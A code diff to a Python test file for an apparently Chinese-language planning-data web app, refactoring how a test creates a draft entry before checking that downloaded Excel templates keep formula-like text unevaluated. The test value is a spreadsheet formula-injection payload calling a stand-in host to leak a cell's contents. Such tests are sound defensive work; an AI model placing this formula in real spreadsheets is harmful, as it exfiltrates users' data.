@@ -7,10 +7,9 @@ import zipfile
 
 import openpyxl
 
-from planwatch.web.monitoring import services
 from planwatch.web.monitoring.models import Observation
 from tests.web.collection.conftest import TEMPLATE
-from tests.web.conftest import indicator
+from tests.web.conftest import entered
 
 
 def test_county_template_has_only_the_countys_assignment(cast, assignments, template_of, client_for):
@@ -42,16 +41,7 @@ def test_a_prefilled_source_that_looks_like_a_formula_is_text_and_comes_back_unc
     back as downloaded imports with 来源 and 备注 exactly as stored (not refused as a formula, no
     apostrophe added)."""
     evil = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")'
-    draft = services.create_draft(
-        user=cast.yudu,
-        reason="填报",
-        indicator=indicator(small_plan, "I01"),
-        region=reference_data.regions["于都县"],
-        year=2024,
-        value=240.5,
-        source=evil,
-        note="+1 见附件",
-    )
+    draft = entered(cast.yudu, small_plan, reference_data.regions["于都县"], 2024, 240.5, source=evil, note="+1 见附件")
     data = client_for(cast.yudu).get(TEMPLATE).content
     sheet = openpyxl.load_workbook(io.BytesIO(data))["填报"]
     assert [(c.value, c.data_type) for c in (sheet["F2"], sheet["G2"])] == [(evil, "s"), ("+1 见附件", "s")]
